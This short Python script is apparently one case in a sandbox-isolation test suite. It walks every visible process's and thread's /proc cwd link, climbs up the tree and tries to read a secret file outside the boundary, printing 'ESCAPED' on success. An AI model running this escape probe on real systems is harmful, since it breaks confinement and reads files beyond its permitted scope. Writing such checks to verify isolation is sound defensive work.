# attempt: climb from the working directory of any process in sight, and of each of its threads
# wall: files
# control: view outside
# proof: secret
import glob, os

for cwd in glob.glob("/proc/[0-9]*/task/*/cwd"):
    try:
        print("ESCAPED", open(cwd + "/.." * 30 + os.environ["OUTSIDE"]).read())
    except OSError as e:
        print(e)
